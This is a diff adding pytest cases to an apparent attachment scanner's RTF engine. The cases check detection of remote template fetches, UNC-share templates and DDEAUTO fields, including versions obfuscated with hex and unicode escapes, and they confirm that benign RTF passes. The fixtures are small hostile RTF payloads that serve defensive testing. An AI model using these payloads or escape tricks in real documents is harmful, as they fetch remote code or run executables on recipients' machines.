@@ -140,3 +140,43 @@ def test_sample_clean_specification(oletools_data: Path, policy: Policy) -> None
     """The RTF 1.7 specification: 2 MB, 1,500 fields, no objects."""
     result = scan(read_sample(oletools_data, "msodde/RTF-Spec-1.7.rtf"), policy)
     assert result.findings == [] and result.children == []
+
+
+@pytest.mark.parametrize(
+    ("rtf", "code"),
+    [
+        (rb"{\rtf1\ansi{\*\template http://203.0.113.5/payload.dot} Hello\par}", "EXTERNAL_LINK"),
+        (rb"{\rtf1\ansi{\*\template \\\\203.0.113.5\share\x.dot} Hello\par}", "EXTERNAL_LINK"),
+        (
+            rb'{\rtf1{\field{\*\fldinst INCLUDEPICTURE "http://x/y.png"}{\fldrslt x}}}',
+            "EXTERNAL_LINK",
+        ),
+        (rb"{\rtf1{\field{\*\fldinst \'44DEAUTO c:\\x.exe}{\fldrslt x}}}", "DDE"),
+        (rb"{\rtf1{\field{\*\fldinst DDE\'41UTO c:\\x.exe}{\fldrslt x}}}", "DDE"),
+        (rb"{\rtf1{\field{\*\fldinst \u68?DEAUTO c:\\x.exe}{\fldrslt x}}}", "DDE"),
+    ],
+)
+def test_escaped_dde_and_remote_fetches(policy, rtf, code):
+    from attachguard.engines.base import Item
+    from attachguard.engines.rtf import RtfEngine
+    from attachguard.report import FileType
+
+    item = Item("letter.rtf", rtf, FileType("rtf", "text/rtf", "text", True))
+    assert [f.code.name for f in RtfEngine().scan(item, policy).findings] == [code]
+
+
+@pytest.mark.parametrize(
+    "rtf",
+    [
+        rb"{\rtf1\ansi{\*\template C:\\Templates\\Normal.dot} Hello\par}",
+        rb'{\rtf1{\field{\*\fldinst HYPERLINK "http://example.com"}{\fldrslt x}}}',
+        rb"{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}} caf\'e9 \u233? done}",
+    ],
+)
+def test_local_templates_links_and_escaped_text_pass(policy, rtf):
+    from attachguard.engines.base import Item
+    from attachguard.engines.rtf import RtfEngine
+    from attachguard.report import FileType
+
+    item = Item("letter.rtf", rtf, FileType("rtf", "text/rtf", "text", True))
+    assert RtfEngine().scan(item, policy).findings == []
